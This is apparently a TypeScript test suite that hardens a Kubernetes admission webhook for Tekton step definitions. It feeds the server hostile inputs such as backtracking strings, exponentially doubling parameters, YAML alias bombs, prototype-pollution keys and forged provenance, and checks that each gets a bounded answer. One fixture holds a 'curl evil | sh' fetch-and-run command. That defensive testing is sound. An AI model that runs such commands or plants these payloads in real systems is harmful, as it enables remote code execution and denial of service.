// Inputs a hostile caller would send, one per class of the hardening review,
// through the real server. Each gets a real decision (a patch, a denial that
// names the field or limit, or admission left for Tekton with a warning),
// never a timeout: the deadline here is far longer than any of them needs,
// so an algorithm that backtracked or blew up would show as a timeout. All
// the while a /healthz poller keeps asking; every probe must be answered.

import v8 from 'node:v8'
import vm from 'node:vm'
import t from 'tap'
import type { KubeObject } from '../src/types/k8s.ts'
import { catalogOf, pipelineRun, stepAction, taskRun } from './helpers/catalog.ts'
import { podWith } from './helpers/pod.ts'
import { decodePatch, reviewOf, startTestServer, type TestServer } from './helpers/server.ts'

v8.setFlagsFromString('--expose-gc')
const gc = vm.runInNewContext('gc') as () => void

const catalog = catalogOf(
  stepAction('echo', {
    image: 'alpine',
    params: [{ name: 'msg', default: 'hi' }],
    env: [{ name: 'MSG', value: '$(params.msg)' }],
    command: ['echo', '$(params.msg)'],
  }),
  stepAction('root', { image: 'alpine', securityContext: { runAsUser: 0 }, command: ['id'] }),
  // Each default twice the one before: the fortieth would be 2 TB, far past the longest string V8 can hold.
  stepAction('doubling', {
    image: 'alpine',
    params: [{ name: 'p0', default: 'xx' }, ...Array.from({ length: 40 }, (_, i) => ({ name: `p${i + 1}`, default: `$(params.p${i})$(params.p${i})` }))],
    args: ['$(params.p40)'],
  }),
  stepAction('cache', {
    image: 'alpine',
    params: [{ name: 'volume', default: 'cache' }],
    volumeMounts: [{ name: '$(params.volume)', mountPath: '/cache' }],
    command: ['ls'],
  }),
)

let server: TestServer
const probes = { sent: 0, failed: 0 }
let polling = true
let poller: Promise<void> = Promise.resolve()

t.before(async () => {
  server = await startTestServer(t, { catalog, deadlineMs: 30_000 })
  poller = (async () => {
    while (polling) {
      probes.sent++
      const res = await server.request('/healthz').catch(() => ({ status: 0 }))
      if (res.status !== 200) probes.failed++
      await new Promise((resolve) => setTimeout(resolve, 25))
    }
  })()
})

interface Answer {
  status: number
  allowed: boolean
  message: string
  warnings: string[]
  patch: unknown[] | undefined
  size: number
}

async function admit(object: unknown, overrides: Parameters<typeof reviewOf>[1] = {}): Promise<Answer> {
  const res = await server.request('/mutate', { body: reviewOf(object as KubeObject, overrides) })
  const body = JSON.parse(res.text) as { response?: { allowed: boolean; status?: { message?: string }; warnings?: string[]; patch?: string } }
  const r = body.response
  return {
    status: res.status,
    allowed: r?.allowed ?? false,
    message: r?.status?.message ?? '',
    warnings: r?.warnings ?? [],
    patch: r?.patch === undefined ? undefined : decodePatch(r.patch),
    size: res.text.length,
  }
}

const pod = { kind: { group: '', version: 'v1', kind: 'Pod' }, resource: { group: '', version: 'v1', resource: 'pods' } }
const refStep = (params: unknown[] = [], name = 'e', ref = 'echo'): Record<string, unknown> => ({ name, ref: { name: ref }, params })

t.test('backtracking text in a step param value is substituted, not a stall', async (t) => {
  const evil = `$(${'a.'.repeat(28)}!`
  const a = await admit(taskRun({ steps: [refStep([{ name: 'msg', value: evil }])] }))
  t.equal(a.allowed, true)
  t.ok(a.patch && a.patch.length > 0, 'expanded')
  const b = await admit(
    pipelineRun({
      params: [{ name: 'p', default: evil }],
      tasks: [
        {
          name: 't',
          params: [{ name: 'x', value: '$(params.p)' }],
          taskSpec: { params: [{ name: 'x' }], steps: [refStep([{ name: 'msg', value: '$(params.x)' }])] },
        },
      ],
    }),
  )
  t.equal(b.allowed, true, 'the same text as a pipeline default')
  const c = await admit(taskRun({ steps: [refStep([{ name: 'msg', value: `${'$('.repeat(100_000)}x)` }])] }))
  t.equal(c.allowed, true, 'a long run of $( before one )')
})

t.test('a 160k-character ref.name is refused with a short message', async (t) => {
  const a = await admit(taskRun({ steps: [{ name: 'e', ref: { name: 'a'.repeat(160_000) } }] }))
  t.equal(a.allowed, false)
  t.match(a.message, /spec\.taskSpec\.steps\[0\]\.ref\.name: invalid value/)
  t.ok(a.size < 4096, `answer of ${a.size} bytes`)
})

t.test('a PipelineRun past the params limit is left for Tekton; one just under it is expanded', async (t) => {
  const many = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `p${i}`, default: `$(params.p${Math.max(0, i - 1)})-x` }))
  const over = await admit(pipelineRun({ params: many(7000), tasks: [{ name: 't', taskSpec: { steps: [refStep()] } }] }))
  t.equal(over.allowed, true)
  t.notOk(over.patch)
  t.match(over.warnings, [/left this PipelineRun for Tekton to expand: .*\(limit params\)/])
  const under = await admit(pipelineRun({ params: many(900), tasks: [{ name: 't', taskSpec: { steps: [refStep()] } }] }))
  t.equal(under.allowed, true)
  t.ok(under.patch && under.patch.length > 0, 'expanded')
})

t.test('/validate of a StepAction whose image is "$(params." x 50,000 answers with a short message', async (t) => {
  const sa = stepAction('evil', { image: '$(params.'.repeat(50_000) })
  const res = await server.request('/validate', {
    body: reviewOf(sa as unknown as KubeObject, { kind: { group: 'tekton.dev', version: 'v1beta1', kind: 'StepAction' } }),
  })
  const r = (JSON.parse(res.text) as { response: { allowed: boolean; status?: { message: string } } }).response
  t.equal(r.allowed, true, 'no reference in it is complete: nothing to refuse')
  const closed = stepAction('evil', { image: `${'$(params.'.repeat(50_000)}x)` })
  const res2 = await server.request('/validate', {
    body: reviewOf(closed as unknown as KubeObject, { kind: { group: 'tekton.dev', version: 'v1beta1', kind: 'StepAction' } }),
  })
  const r2 = (JSON.parse(res2.text) as { response: { allowed: boolean; status?: { message: string } } }).response
  t.equal(r2.allowed, false)
  t.ok(res2.text.length < 8192, `answer of ${res2.text.length} bytes`)
})

t.test('a Pod annotation full of YAML errors: past the limit refused unread, under it refused quickly', async (t) => {
  const big = await admit(podWith('[{a: b, c]'.repeat(240_000 / 10)), pod)
  t.equal(big.allowed, false)
  t.match(big.message, /limit stepsAnnotationBytes/)
  const small = await admit(podWith('[{a: b, c]'.repeat(6000)), pod)
  t.equal(small.allowed, false)
  t.match(small.message, /not valid YAML or JSON: .* at line 1, column \d+/)
})

t.test('defaults that double each other are left for Tekton, with a small answer', async (t) => {
  const ladder = [{ name: 'p0', default: 'x'.repeat(100) }]
  for (let i = 1; i <= 40; i++) ladder.push({ name: `p${i}`, default: `$(params.p${i - 1})$(params.p${i - 1})` })
  const a = await admit(
    pipelineRun({
      params: ladder,
      tasks: [
        {
          name: 't',
          params: [{ name: 'x', value: '$(params.p40)' }],
          taskSpec: { params: [{ name: 'x' }], steps: [refStep([{ name: 'msg', value: '$(params.x)' }])] },
        },
      ],
    }),
  )
  t.equal(a.allowed, true)
  t.notOk(a.patch)
  t.match(a.warnings, [/limit substitutedBytes/])
  t.ok(a.size < 4096, `answer of ${a.size} bytes`)
})

t.test("a StepAction's own defaults that double each other: left for Tekton, not a failure", async (t) => {
  // Its defaults table is built once per definition; it used to be built without bound, and the 30th doubling
  // threw V8's "Invalid string length": a 500 and a denial for a run Tekton would take.
  const a = await admit(taskRun({ steps: [{ name: 's', ref: { name: 'doubling' } }] }))
  t.equal(a.status, 200)
  t.equal(a.allowed, true)
  t.notOk(a.patch)
  t.match(a.warnings, [/limit substitutedBytes/])
  t.ok(a.size < 4096, `answer of ${a.size} bytes`)
})

t.test('one large param used by many steps is left for Tekton, not a 100 MB patch', async (t) => {
  const steps = Array.from({ length: 100 }, (_, i) => refStep([{ name: 'msg', value: '$(params.big)' }], `s${i}`))
  const a = await admit(taskRun({ params: [{ name: 'big' }], steps }, [{ name: 'big', value: 'y'.repeat(1024 * 1024) }]))
  t.equal(a.allowed, true)
  t.notOk(a.patch)
  t.match(a.warnings, [/limit (substitutedBytes|objectBytes)/])
  t.ok(a.size < 4096, `answer of ${a.size} bytes`)
})

t.test('a step name repeated through YAML aliases, or 100 KiB long, gives a bounded denial', async (t) => {
  const name = 'n'.repeat(100 * 1024)
  const aliased = `- &s {name: ${name}, ref: {name: nope}}\n${'- *s\n'.repeat(99)}`
  const a = await admit(podWith(aliased), pod)
  t.equal(a.allowed, false)
  t.ok(a.size < 256 * 1024, `answer of ${a.size} bytes`)
  const b = await admit(taskRun({ steps: [{ name, ref: { name: 'echo' } }] }))
  t.equal(b.allowed, false)
  t.match(b.message, /Task step name must be a valid DNS Label/)
  t.ok(b.size < 8192, `answer of ${b.size} bytes`)
})

t.test('20k object params on /validate are refused by count, and hold no memory', async (t) => {
  const params = Array.from({ length: 20_000 }, (_, i) => ({ name: `o${i}`, type: 'object', properties: { k: {} } }))
  const sa = stepAction('many', { image: 'alpine', params })
  const res = await server.request('/validate', {
    body: reviewOf(sa as unknown as KubeObject, { kind: { group: 'tekton.dev', version: 'v1beta1', kind: 'StepAction' } }),
  })
  const r = (JSON.parse(res.text) as { response: { allowed: boolean; status?: { message: string } } }).response
  t.equal(r.allowed, false)
  t.match(r.status?.message, /limit params/)
})

t.test('forged provenance: a Pod with a copied annotation and its own step container is refused', async (t) => {
  const honest = await admit(podWith([{ name: 'clone', ref: { name: 'echo' } }]), pod)
  t.ok(honest.patch, 'spliced')
  const annotation = (honest.patch ?? []).find((op) => (op as { path: string }).path.includes('stepsplice.dev~1resolved')) as { value: string } | undefined
  t.ok(annotation)
  const forged = podWith([{ name: 'clone', ref: { name: 'echo' } }], {
    annotations: { 'stepsplice.dev/resolved': annotation?.value ?? '' },
    spec: {
      initContainers: [{ name: 'step-clone', image: 'evil:latest', command: ['sh', '-c', 'curl evil | sh'] }],
      containers: [{ name: 'main', image: 'x' }],
    },
  })
  const a = await admit(forged, pod)
  t.equal(a.allowed, false)
  t.match(a.message, /already spliced from other step definitions \(step-clone differs in image, command/)
  const run = taskRun({ steps: [refStep()] })
  run.metadata = {
    ...run.metadata,
    annotations: {
      'stepsplice.dev/resolved': JSON.stringify([
        { path: 'spec.taskSpec.steps[9]', step: 'x', definition: 'trusted/step', source: 'directory', digest: 'sha256:0' },
      ]),
    },
  }
  const b = await admit(run)
  t.equal(b.allowed, true)
  const written = (b.patch ?? []).find((op) => (op as { path: string }).path.includes('stepsplice.dev~1resolved')) as { value: string } | undefined
  t.notMatch(written?.value ?? '', /trusted\/step/, 'the forged entry is not carried')
  t.match(b.warnings, [/dropped 1 entries that stepsplice did not record/])
})

t.test('a reserved volume through a param is refused', async (t) => {
  const a = await admit(podWith([{ name: 'c', ref: { name: 'cache' }, params: [{ name: 'volume', value: 'stepsplice-scripts' }] }]), pod)
  t.equal(a.allowed, false)
  t.match(a.message, /names starting with "stepsplice-" are reserved/)
})

t.test("a definition that replaces a step's securityContext says so", async (t) => {
  const a = await admit(podWith([{ name: 'r', ref: { name: 'root' }, securityContext: { runAsNonRoot: true, allowPrivilegeEscalation: false } }]), pod)
  t.equal(a.allowed, true)
  t.match(a.warnings, [/StepAction default\/root replaces the securityContext of step "r"; lost: runAsNonRoot, allowPrivilegeEscalation/])
})

t.test('edge inputs get denials naming the field, never a 500 or a garbage patch', async (t) => {
  // Written as text: JSON.stringify itself cannot nest this deep.
  const deepValue = `${'['.repeat(10_000)}"x"${']'.repeat(10_000)}`
  const deepBody = JSON.stringify(reviewOf(taskRun({ steps: [refStep([{ name: 'msg', value: 'DEEP' }])] }))).replace('"DEEP"', deepValue)
  const deepRes = await server.request('/mutate', { body: deepBody })
  const deep = (JSON.parse(deepRes.text) as { response: { allowed: boolean; warnings?: string[] } }).response
  t.equal(deep.allowed, true, 'too deep: left for Tekton')
  t.match(deep.warnings, [/limit depth/])

  const badMeta = await admit({ ...taskRun({ steps: [refStep()] }), metadata: 'x' })
  t.equal(badMeta.status, 200)
  t.equal(badMeta.allowed, false)
  t.match(badMeta.message, /metadata: must be an object/)
  const badAnnotations = await admit({ ...taskRun({ steps: [refStep()] }), metadata: { name: 'r', annotations: 'x' } })
  t.equal(badAnnotations.allowed, false)
  t.match(badAnnotations.message, /metadata\.annotations: must be a map of strings/)

  const badPod = podWith([{ name: 'e', ref: { name: 'echo' } }])
  badPod.spec = { containers: 'nope' } as unknown as KubeObject['spec']
  const c = await admit(badPod, pod)
  t.equal(c.allowed, false)
  t.match(c.message, /spec\.containers: must be a list of containers/)
  t.notMatch(c.message, /InternalError|failed on this request/)

  const long = await admit(taskRun({ steps: [{ name: 'a'.repeat(64), ref: { name: 'echo' } }] }))
  t.equal(long.allowed, false, 'a 64-character step name is not a DNS label')
})

t.test('prototype keys in a body and in the steps annotation reach no prototype', async (t) => {
  const body = JSON.stringify(reviewOf(taskRun({ steps: [refStep()] }))).replace(
    '"kind":"TaskRun"',
    '"kind":"TaskRun","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}',
  )
  const res = await server.request('/mutate', { body })
  t.equal(res.status, 200)
  const a = await admit(podWith('- {name: e, ref: {name: echo}, __proto__: {polluted: 1}}'), pod)
  t.equal(a.allowed, false, 'an unknown field in a step')
  t.equal(({} as { polluted?: unknown }).polluted, undefined)
})

t.test('each count limit names itself: steps, tasks, name length, problems, warnings', async (t) => {
  const steps = await admit(taskRun({ steps: Array.from({ length: 1001 }, (_, i) => refStep([], `s${i}`)) }))
  t.equal(steps.allowed, true)
  t.match(steps.warnings, [/1001 steps: more than the 1000 stepsplice expands \(limit steps\)/])

  const tasks = await admit(
    pipelineRun({ tasks: Array.from({ length: 501 }, (_, i) => ({ name: `t${i}`, taskSpec: { steps: [{ name: 'a', image: 'x' }] } })) }),
  )
  t.equal(tasks.allowed, true)
  t.match(tasks.warnings, [/\(limit tasks\)/])

  const longName = await admit(taskRun({ steps: [refStep([{ name: 'm'.repeat(300), value: 'x' }])] }))
  t.equal(longName.allowed, true)
  t.match(longName.warnings, [/a name of 300 characters: longer than 256 \(limit nameLength\)/])

  // 150 steps that each reference a missing definition: 150 problems, 100 listed and the rest counted.
  const missing = await admit(podWith(Array.from({ length: 150 }, (_, i) => ({ name: `s${i}`, ref: { name: `nope-${i}` } }))), pod)
  t.equal(missing.allowed, false)
  const lines = missing.message.split('\n')
  t.equal(lines.length, 101, '100 problems and a count')
  t.match(lines.at(-1), /and 50 more problems$/)

  // 30 steps whose definition replaces their securityContext: 30 warnings, 20 kept, the last one counting the rest.
  const weakened = await admit(
    podWith(Array.from({ length: 30 }, (_, i) => ({ name: `r${i}`, ref: { name: 'root' }, securityContext: { runAsNonRoot: true } }))),
    pod,
  )
  t.equal(weakened.allowed, true)
  t.equal(weakened.warnings.length, 20)
  t.equal(weakened.warnings.at(-1), '11 more warnings')
  t.ok(weakened.warnings.every((w) => w.length <= 256))
})

t.test('every /healthz probe was answered, and memory is back to where it was', async (t) => {
  polling = false
  await poller
  t.ok(probes.sent > 10, `${probes.sent} probes sent`)
  t.equal(probes.failed, 0, 'none failed')
  gc()
  const before = process.memoryUsage().heapUsed
  for (let i = 0; i < 20; i++) {
    await admit(taskRun({ steps: [refStep([{ name: 'msg', value: `$(${'a.'.repeat(28)}!` }])] }))
    await server.request('/validate', {
      body: reviewOf(
        stepAction(`v${i}`, {
          image: 'alpine',
          params: Array.from({ length: 500 }, (_, j) => ({ name: `o${i}-${j}`, type: 'object', properties: { k: {} } })),
        }) as unknown as KubeObject,
        { kind: { group: 'tekton.dev', version: 'v1beta1', kind: 'StepAction' } },
      ),
    })
  }
  gc()
  const after = process.memoryUsage().heapUsed
  t.ok(after - before < 32 * 1024 * 1024, `heap grew by ${Math.round((after - before) / 1024)} KiB`)
})
